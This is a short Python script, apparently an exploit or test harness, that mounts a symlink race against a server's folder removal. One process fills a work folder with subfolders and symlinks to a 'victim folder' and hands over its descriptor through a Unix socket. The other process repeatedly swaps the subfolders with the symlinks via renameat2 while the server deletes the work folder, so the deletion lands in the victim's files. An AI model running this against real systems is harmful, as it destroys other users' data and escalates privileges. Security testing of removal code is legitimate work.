"""Two programs of one account that try to redirect the removal of a folder.

`lend` fills its work folder, passes the folder's descriptor to `swap` and ends. `swap` then exchanges the folders in it
with links to a folder of the server's user, again and again, while the server removes it.

    folder-swapper.py lend|swap <socket name> <victim folder> <folders> <files>
"""

import ctypes
import os
import socket
import sys
import time

role, name, victim, folders, files = sys.argv[1:]
address = "\0" + name
libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
ROUNDS = 2000


def connect():
    end = time.monotonic() + 30
    while True:
        channel = socket.socket(socket.AF_UNIX)
        try:
            channel.connect(address)
            return channel
        except ConnectionRefusedError:
            if time.monotonic() > end:
                raise
            time.sleep(0.02)


def lend():
    for folder in range(int(folders)):
        os.mkdir(f"folder{folder}")
        for file in range(int(files)):
            open(f"folder{folder}/file{file}", "w").close()
        os.symlink(victim, f"link{folder}")
    channel = connect()
    socket.send_fds(channel, [b"work"], [os.open(".", os.O_RDONLY | os.O_DIRECTORY)])
    channel.recv(1)  # it has arrived


def swap():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(address)
    listener.listen()
    channel, _ = listener.accept()
    _, (work,), _, _ = socket.recv_fds(channel, 16, 1)
    channel.send(b".")
    channel.recv(1)  # the other program has ended
    swapped = 0
    for _ in range(ROUNDS):
        for folder in range(int(folders)):
            if libc.renameat2(work, f"folder{folder}".encode(), work, f"link{folder}".encode(), RENAME_EXCHANGE) == 0:
                swapped += 1
            else:
                libc.symlinkat(victim.encode(), work, f"link{folder}".encode())
    print("swapped", swapped)


lend() if role == "lend" else swap()
